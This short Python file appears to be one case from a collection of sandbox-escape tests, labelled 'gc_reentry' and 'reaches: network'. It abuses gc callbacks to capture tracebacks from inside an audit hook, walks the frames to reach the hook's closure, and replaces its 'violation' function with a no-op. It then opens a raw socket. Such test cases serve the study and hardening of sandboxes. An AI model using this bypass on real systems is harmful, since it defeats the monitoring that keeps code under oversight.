# family: gc_reentry
# reaches: network
# layer: runtime
# static: denied
# gc.callbacks run at the start of every collection, wherever it starts: also inside the audit
# hook. The callback raises no audit event, it keeps a traceback; after the hook has returned, the
# traceback's frame leads (f_back) to the hook's own frames and closure, which is disarmed.
import gc
import sys
import traceback

kept = []


def on_collect(phase, info):
    if phase == "start":
        try:
            raise RuntimeError(phase)
        except RuntimeError as e:
            kept.append(e.__traceback__)


def hook_check():
    while kept:
        for frame, _ in traceback.walk_tb(kept.pop()):
            while frame is not None:
                if "check" in frame.f_locals and "busy" in frame.f_locals:
                    return frame.f_locals["check"]
                frame = frame.f_back
    return None


gc.callbacks.append(on_collect)
check = None
for threshold in range(1, 200):
    gc.collect()
    kept.clear()
    gc.set_threshold(threshold)
    sys.audit("os.rmdir", *["/tmp/build/stage%d" % n for n in range(40)])
    gc.set_threshold(700)
    check = hook_check()
    if check is not None:
        break
gc.callbacks.remove(on_collect)

for cell in check.__closure__ if check is not None else ():  # no hook: nothing to disarm
    if getattr(cell.cell_contents, "__name__", "") == "violation":
        cell.cell_contents = lambda *args: None

_socket = sys.modules["_socket"]
print("threshold", threshold, _socket.socket(_socket.AF_INET, _socket.SOCK_STREAM))
